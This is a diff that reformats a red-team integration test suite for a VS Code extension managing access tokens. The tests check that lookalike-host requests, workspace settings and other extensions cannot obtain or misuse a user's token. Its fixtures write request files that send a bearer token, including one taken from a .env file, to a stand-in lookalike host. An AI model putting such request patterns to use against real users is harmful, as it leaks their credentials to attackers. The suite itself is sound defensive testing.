@@ -10,7 +10,19 @@ import type { Sandbox } from '../../sandbox/src/types';
 import { ClientCommands, TOKEN_PLACEHOLDER } from '@shared/protocol/clientCommands';
 import { readEnvVariable } from '../../client/src/core/envFile';
 import type { EnvSyncOutcome } from '../../client/src/integrations/envSync';
-import { acceptTokenCompletion, c2mApi, config, eventually, profileFor, run, setProfiles, startTestSandbox, testClients, tokenOf, userProfiles } from '../support/inHost/extension';
+import {
+  acceptTokenCompletion,
+  c2mApi,
+  config,
+  eventually,
+  profileFor,
+  run,
+  setProfiles,
+  startTestSandbox,
+  testClients,
+  tokenOf,
+  userProfiles,
+} from '../support/inHost/extension';
 
 const PROFILE = 'rt';
 const PROFILE_NAME = `IT ${PROFILE}`;
@@ -66,29 +78,45 @@ describe('attacks: request files, env files, settings and commands', function ()
     await sandbox.stop();
   });
 
-  it('[A12] a request file of the repository addressed to a lookalike host does not get the profile\'s token from the completion', async () => {
+  it("[A12] a request file of the repository addressed to a lookalike host does not get the profile's token from the completion", async () => {
     // What a cloned repository ships: requests to a host that is not the profile's (literal, and through a file
     // variable, which is how REST Client and httpYac files usually name their host).
     const file = workspaceFile('redteam-lookalike.http');
     files.push(file);
-    fs.writeFileSync(file, `POST ${LOOKALIKE}/jobs\nAuthorization:\n\n###\n@host = ${LOOKALIKE}\nGET {{host}}/jobs\nAuthorization:\n`);
+    fs.writeFileSync(
+      file,
+      `POST ${LOOKALIKE}/jobs\nAuthorization:\n\n###\n@host = ${LOOKALIKE}\nGET {{host}}/jobs\nAuthorization:\n`,
+    );
     const doc = await vscode.workspace.openTextDocument(file);
     await vscode.window.showTextDocument(doc);
     const offered = async (line: number): Promise<string[]> => {
       const list = await eventually(async () => {
-        const l = await vscode.commands.executeCommand<vscode.CompletionList>('vscode.executeCompletionItemProvider', doc.uri, new vscode.Position(line, 'Authorization:'.length));
+        const l = await vscode.commands.executeCommand<vscode.CompletionList>(
+          'vscode.executeCompletionItemProvider',
+          doc.uri,
+          new vscode.Position(line, 'Authorization:'.length),
+        );
         return l.items.length > 0 ? l : undefined;
       }, 'the language server to answer completions');
-      return list.items.filter((i) => i.command?.command === ClientCommands.insertToken).map((i) => (typeof i.label === 'string' ? i.label : i.label.label));
+      return list.items
+        .filter((i) => i.command?.command === ClientCommands.insertToken)
+        .map((i) => (typeof i.label === 'string' ? i.label : i.label.label));
     };
     const literal = await offered(1);
     const viaVariable = await offered(6);
     // Accepting the item as the user would (the editor active, the cursor where the suggestion leaves it).
-    if (literal.length > 0) await (await acceptTokenCompletion(doc, new vscode.Position(1, 'Authorization:'.length), PROFILE_NAME)).command;
+    if (literal.length > 0)
+      await (
+        await acceptTokenCompletion(doc, new vscode.Position(1, 'Authorization:'.length), PROFILE_NAME)
+      ).command;
     const line = doc.lineAt(1).text;
     await vscode.commands.executeCommand('workbench.action.files.revert');
     assert.deepEqual(
-      { literal, viaVariable, line: line.includes(TOKEN_PLACEHOLDER) || line === 'Authorization:' ? 'no token' : 'TOKEN INSERTED' },
+      {
+        literal,
+        viaVariable,
+        line: line.includes(TOKEN_PLACEHOLDER) || line === 'Authorization:' ? 'no token' : 'TOKEN INSERTED',
+      },
       { literal: [], viaVariable: [], line: 'no token' },
       `a token of "${PROFILE_NAME}" (base URL ${sandbox.baseUrl}) is offered for and inserted into a request to ${LOOKALIKE}`,
     );
@@ -103,19 +131,34 @@ describe('attacks: request files, env files, settings and commands', function ()
     const file = path.join(folder, 'redteam-dotenv.http');
     files.push(path.join(folder, '.env'), file);
     // REST Client and httpYac send the .env value (which the sync keeps current) to whatever host the request names.
-    fs.writeFileSync(file, `GET ${LOOKALIKE}/jobs\nAuthorization: Bearer {{$dotenv C2M_ACCESS_TOKEN}}\n\n###\nGET ${LOOKALIKE}/jobs\nAuthorization: Bearer ${live}\n`);
+    fs.writeFileSync(
+      file,
+      `GET ${LOOKALIKE}/jobs\nAuthorization: Bearer {{$dotenv C2M_ACCESS_TOKEN}}\n\n###\nGET ${LOOKALIKE}/jobs\nAuthorization: Bearer ${live}\n`,
+    );
     const doc = await vscode.workspace.openTextDocument(file);
     await vscode.window.showTextDocument(doc);
-    const flagged = (): vscode.Diagnostic[] => vscode.languages.getDiagnostics(doc.uri).filter((d) => /host|origin|base URL/i.test(d.message));
-    const found = await eventually(() => (flagged().length >= 2 ? flagged() : undefined), 'a diagnostic on each request to the lookalike host', 5_000)
-      .catch(() => flagged());
-    assert.equal(found.length, 2, `no warning that a C2M token of "${PROFILE_NAME}" (base URL ${sandbox.baseUrl}) goes to ${LOOKALIKE}; diagnostics: ${JSON.stringify(vscode.languages.getDiagnostics(doc.uri).map((d) => d.message))}`);
+    const flagged = (): vscode.Diagnostic[] =>
+      vscode.languages.getDiagnostics(doc.uri).filter((d) => /host|origin|base URL/i.test(d.message));
+    const found = await eventually(
+      () => (flagged().length >= 2 ? flagged() : undefined),
+      'a diagnostic on each request to the lookalike host',
+      5_000,
+    ).catch(() => flagged());
+    assert.equal(
+      found.length,
+      2,
+      `no warning that a C2M token of "${PROFILE_NAME}" (base URL ${sandbox.baseUrl}) goes to ${LOOKALIKE}; diagnostics: ${JSON.stringify(vscode.languages.getDiagnostics(doc.uri).map((d) => d.message))}`,
+    );
   });
 
   /** Syncs `variable` of `relative` (the user's own User-settings target), allowing the write to a file git does not ignore. */
   async function syncInto(relative: string, variable: string): Promise<EnvSyncOutcome[]> {
     api.testing.answer('Write to This File', 'Write to This File');
-    await config().update('envSync.targets', [{ file: relative, variable, profile: PROFILE }], vscode.ConfigurationTarget.Global);
+    await config().update(
+      'envSync.targets',
+      [{ file: relative, variable, profile: PROFILE }],
+      vscode.ConfigurationTarget.Global,
+    );
     await config().update('envSync.enabled', true, vscode.ConfigurationTarget.Global);
     const outcomes = (await run<EnvSyncOutcome[]>('c2m.syncEnv')) ?? [];
     await config().update('envSync.enabled', undefined, vscode.ConfigurationTarget.Global);
@@ -132,9 +175,17 @@ describe('attacks: request files, env files, settings and commands', function ()
     fs.chmodSync(file, 0o644);
     const outcomes = await syncInto(path.basename(file), 'C2M_ACCESS_TOKEN');
     const value = readEnvVariable(fs.readFileSync(file, 'utf8'), 'C2M_ACCESS_TOKEN');
-    assert.equal(value, await api.testing.getShortTermToken(PROFILE), `the sync wrote the token: ${JSON.stringify(outcomes)}`);
+    assert.equal(
+      value,
+      await api.testing.getShortTermToken(PROFILE),
+      `the sync wrote the token: ${JSON.stringify(outcomes)}`,
+    );
     const mode = fs.statSync(file).mode & 0o777;
-    assert.equal(mode & 0o077, 0, `the short-term token sits in a file of mode ${mode.toString(8)}: every local user can read it`);
+    assert.equal(
+      mode & 0o077,
+      0,
+      `the short-term token sits in a file of mode ${mode.toString(8)}: every local user can read it`,
+    );
   });
 
   it('[A15] the sync does not silently overwrite another secret kept under the target variable', async () => {
@@ -145,7 +196,10 @@ describe('attacks: request files, env files, settings and commands', function ()
     // A question about replacing it gets "Write to This File", which is not "Replace It": the user keeps it.
     const outcomes = await syncInto(path.basename(file), 'API_TOKEN');
     const value = readEnvVariable(fs.readFileSync(file, 'utf8'), 'API_TOKEN');
-    assert.ok(value === theirs, `the GitHub token kept under API_TOKEN was replaced without a question: ${JSON.stringify(outcomes.map((o) => o.result))}`);
+    assert.ok(
+      value === theirs,
+      `the GitHub token kept under API_TOKEN was replaced without a question: ${JSON.stringify(outcomes.map((o) => o.result))}`,
+    );
   });
 
   it('[A16] another extension cannot rotate the long-term token (which revokes the old one) without asking the user', async () => {
@@ -164,7 +218,10 @@ describe('attacks: request files, env files, settings and commands', function ()
   });
 
   it('[A17] another extension cannot switch the active profile (which the env sync, terminals and new sessions follow) without asking the user', async () => {
-    const other = { ...profileFor('rt-other', sandbox.baseUrl, testClients('redteam-other-secret-1a9f').secret, 'client_secret'), name: 'IT rt-other' };
+    const other = {
+      ...profileFor('rt-other', sandbox.baseUrl, testClients('redteam-other-secret-1a9f').secret, 'client_secret'),
+      name: 'IT rt-other',
+    };
     await setProfiles(api, [...userProfiles(), other], PROFILE);
     try {
       api.testing.answer(undefined);
@@ -172,36 +229,61 @@ describe('attacks: request files, env files, settings and commands', function ()
       const asked = api.testing.pendingAnswers() === 0;
       await drainAnswers();
       const active = api.tokens.profiles().find((p) => p.active)?.id;
-      assert.deepEqual({ asked, active }, { asked: true, active: PROFILE }, `${CONSUMER_ID} made "${active}" the active profile unasked`);
+      assert.deepEqual(
+        { asked, active },
+        { asked: true, active: PROFILE },
+        `${CONSUMER_ID} made "${active}" the active profile unasked`,
+      );
     } finally {
-      await setProfiles(api, userProfiles().filter((p) => p.id !== 'rt-other'), PROFILE);
+      await setProfiles(
+        api,
+        userProfiles().filter((p) => p.id !== 'rt-other'),
+        PROFILE,
+      );
     }
   });
 
-  it('[A18] a trusted workspace\'s settings cannot silently turn on terminal token injection', async () => {
+  it("[A18] a trusted workspace's settings cannot silently turn on terminal token injection", async () => {
     await api.testing.engine.getShortTermToken(PROFILE);
-    assert.notEqual(config().inspect<boolean>('terminal.injectToken')?.globalValue, true, 'the user never turned it on');
+    assert.notEqual(
+      config().inspect<boolean>('terminal.injectToken')?.globalValue,
+      true,
+      'the user never turned it on',
+    );
     // What a repository's .vscode/settings.json says, written as the repository ships it (the setting is
     // application-scoped, so VS Code's own update() refuses a workspace value: a file on disk does not ask).
     const settingsFile = path.join(workspaceFile('.vscode'), 'settings.json');
     const before = fs.existsSync(settingsFile) ? fs.readFileSync(settingsFile, 'utf8') : undefined;
     const settings = before ? (JSON.parse(before) as Record<string, unknown>) : {};
     fs.mkdirSync(path.dirname(settingsFile), { recursive: true });
-    fs.writeFileSync(settingsFile, JSON.stringify({ ...settings, 'c2m.terminal.injectToken': true, 'c2m.trace.server': 'off' }, null, 2));
+    fs.writeFileSync(
+      settingsFile,
+      JSON.stringify({ ...settings, 'c2m.terminal.injectToken': true, 'c2m.trace.server': 'off' }, null, 2),
+    );
     try {
       // The window-scoped marker beside it says VS Code has read the file.
-      await eventually(() => (config().inspect<string>('trace.server')?.workspaceValue === 'off' ? true : undefined), 'the workspace settings to be read');
+      await eventually(
+        () => (config().inspect<string>('trace.server')?.workspaceValue === 'off' ? true : undefined),
+        'the workspace settings to be read',
+      );
       const fingerprint = await api.testing.terminalTokenFingerprint();
-      assert.equal(fingerprint, undefined, `every new terminal gets the short-term token of "${PROFILE_NAME}" (fingerprint ${fingerprint ?? ''}) as C2M_ACCESS_TOKEN because the workspace said so; env sync asks for the same`);
+      assert.equal(
+        fingerprint,
+        undefined,
+        `every new terminal gets the short-term token of "${PROFILE_NAME}" (fingerprint ${fingerprint ?? ''}) as C2M_ACCESS_TOKEN because the workspace said so; env sync asks for the same`,
+      );
     } finally {
       if (before === undefined) fs.rmSync(settingsFile, { force: true });
       else fs.writeFileSync(settingsFile, before);
-      await eventually(() => (config().inspect<string>('trace.server')?.workspaceValue === undefined ? true : undefined), 'the workspace settings to be restored');
+      await eventually(
+        () => (config().inspect<string>('trace.server')?.workspaceValue === undefined ? true : undefined),
+        'the workspace settings to be restored',
+      );
       await api.testing.terminalTokenFingerprint();
     }
   });
 
-  it('[A19] a trusted workspace\'s settings cannot silently re-point a User profile by reusing its id', async () => {
+  it("[A19] a trusted workspace's settings cannot silently re-point a User profile by reusing its id", async () => {
     const mine = userProfiles().find((p) => p.id === PROFILE);
     assert.ok(mine);
     // Same id, same name: the Tokens view, the status bar and the account label ("name (id)") look as before.
